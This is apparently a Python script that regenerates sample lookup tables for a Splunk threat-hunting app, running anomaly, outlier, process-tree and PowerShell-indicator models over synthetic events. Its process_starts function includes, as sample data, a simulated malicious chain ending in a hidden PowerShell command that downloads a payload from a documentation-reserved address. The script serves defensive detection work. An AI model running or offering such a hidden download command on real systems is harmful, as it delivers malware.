"""Writes the app's sample lookups anew: python -m splunk_app.sample

The models' own answers to made-up events, so that dashboards show something before any event is
indexed. Addresses and names are those reserved for documentation.
"""

import importlib
import os
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from app.sample import SAMPLE
from app.sample.enrichment import FEEDS, GEO

LOOKUPS = Path(__file__).parent / "dsdl_hunt" / "lookups"
_DECIMALS = 3
_LEARNED = 20  # of the forty commands: the others may be new


def main() -> None:
    """Write a lookup for each model below, one of events, and one of places."""
    os.environ |= {"HUNT_FEEDS": str(FEEDS), "HUNT_GEO": str(GEO)}
    LOOKUPS.mkdir(parents=True, exist_ok=True)
    events = commands()
    _write("events", events)
    decoded = _answer("powershell_ioc", events, ["command", "_time", "host"], learned=_LEARNED)
    _write("powershell_ioc", decoded)
    _write("places", _places(decoded["ioc_ipv4"]))
    _write("timeseries_anomaly", _answer("timeseries_anomaly", *_logons(), by="host"))
    _write("outliers", _answer("outliers", *_sessions(), contamination="0.02"))
    starts = process_starts()
    _write("process_tree", _answer("process_tree", starts, list(starts.columns)))


def commands() -> pd.DataFrame:
    """The bundled sample, its times as seconds since 1970."""
    events = pd.read_csv(SAMPLE).rename(columns={"ParentCommandLine": "command"})
    seconds = pd.to_datetime(events["_time"]).map(pd.Timestamp.timestamp).astype(int)
    return events.assign(_time=seconds)


def process_starts() -> pd.DataFrame:
    """Usual programs on three hosts for twenty hours, and a document that starts a script."""
    usual = [("explorer.exe", "outlook.exe"), ("explorer.exe", "winword.exe"),
             ("svchost.exe", "dllhost.exe")]  # fmt: skip
    rows = [
        (3600 * hour, f"WKS-01{n}", 100 * n + k, 100 * n, parent, image, image)
        for hour in range(20)
        for n in (4, 5, 6)
        for k, (parent, image) in enumerate(usual, 1)
    ]
    script = "wscript.exe C:\\Users\\Public\\invoice.vbs"
    fetch = "powershell -w hidden -c iwr http://203.0.113.60/load -o x"
    rows += [
        (70_000, "WKS-015", 777, 502, "winword.exe", "wscript.exe", script),
        (70_001, "WKS-015", 778, 777, "wscript.exe", "powershell.exe", fetch),
    ]
    names = ["_time", "host", "ProcessId", "ParentProcessId", "ParentImage", "Image", "CommandLine"]
    starts = pd.DataFrame(rows, columns=names)
    return starts.assign(_time=starts["_time"] + int(commands()["_time"].min()))


def _logons() -> tuple[pd.DataFrame, list[str]]:
    """Two weeks of logons per hour on two hosts, with a spike and an outage."""
    hours = pd.date_range("2026-02-16", periods=14 * 24, freq="h", tz="UTC")
    day = 1 + np.sin((hours.hour.to_numpy() - 9) / 24 * 2 * np.pi)
    usual = np.where(hours.dayofweek.to_numpy() > 4, 40, 100) * day + 20
    rng = np.random.default_rng(11)
    seconds = hours.map(pd.Timestamp.timestamp).astype(int)
    series = [
        pd.DataFrame({"_time": seconds, "host": host, "count": rng.poisson(usual)})
        for host in ("dc01.example.com", "dc02.example.com")
    ]
    series[0].loc[200, "count"] += 150
    series[1].loc[300, "count"] = 0
    return pd.concat(series, ignore_index=True), ["_time", "count", "host"]


def _sessions() -> tuple[pd.DataFrame, list[str]]:
    """300 sessions, of which one is huge, and one has an application that nobody else uses."""
    rng = np.random.default_rng(7)
    sessions = pd.DataFrame(
        {
            "_time": int(commands()["_time"].min()) + 120 * np.arange(300),
            "bytes": rng.lognormal(8, 0.5, 300).round().astype(int),
            "duration": rng.exponential(3, 300).round(2),
            "app": rng.choice(["http", "dns"], 300, p=[0.8, 0.2]),
            "user": rng.choice(["a.novak", "m.keller", "s.lind"], 300),
        }
    )
    sessions.loc[110, "bytes"] = 50_000_000
    sessions.loc[220, "app"] = "rdp"
    return sessions, ["bytes", "duration", "app", "user"]


def _answer(
    algo: str, events: pd.DataFrame, fields: list[str], learned: int | None = None, **params: str
) -> pd.DataFrame:
    """The events, and what `| fit MLTKContainer algo=...` and `| apply` put beside them."""
    module: Any = importlib.import_module(f"model.{algo}")
    param = {"options": {"params": {"algo": algo, **params}}, "feature_variables": fields}
    asked = events[fields]
    model = module.init(asked, param)
    module.fit(model, asked.head(learned or len(asked)), param)
    answer = module.apply(model, asked, param)
    answer = answer[[name for name in answer.columns if name not in events.columns]]
    return pd.concat([events, answer], axis=1)


def _places(addresses: pd.Series) -> pd.DataFrame:
    """Where the sample's addresses are, which no database of Splunk knows."""
    known = sorted({one for cell in addresses for one in cell.split("|") if one})
    places = _answer("ip_context", pd.DataFrame({"ioc_ipv4": known}), ["ioc_ipv4"])
    return places[["ioc_ipv4", "latitude", "longitude", "country"]]


def _write(name: str, frame: pd.DataFrame) -> None:
    rounded = frame.round(_DECIMALS)
    rounded.to_csv(LOOKUPS / f"dsdl_hunt_sample_{name}.csv", index=False, lineterminator="\n")


if __name__ == "__main__":
    main()
